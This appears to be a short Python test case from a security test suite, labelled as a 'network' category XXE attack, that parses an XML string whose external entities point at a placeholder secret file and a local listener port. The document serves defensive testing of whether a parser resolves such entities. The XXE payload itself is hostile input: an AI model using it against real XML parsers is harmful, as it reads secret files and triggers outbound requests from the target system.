# category: network
# attack: XML external entity pointing at the secret and the listener
# profile: basic
import xml.etree.ElementTree as ET
doc = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY s SYSTEM "file://@SECRET_FILE@"><!ENTITY n SYSTEM "http://127.0.0.1:@PORT@/">]><a>&s;&n;</a>'
print(ET.fromstring(doc).text)
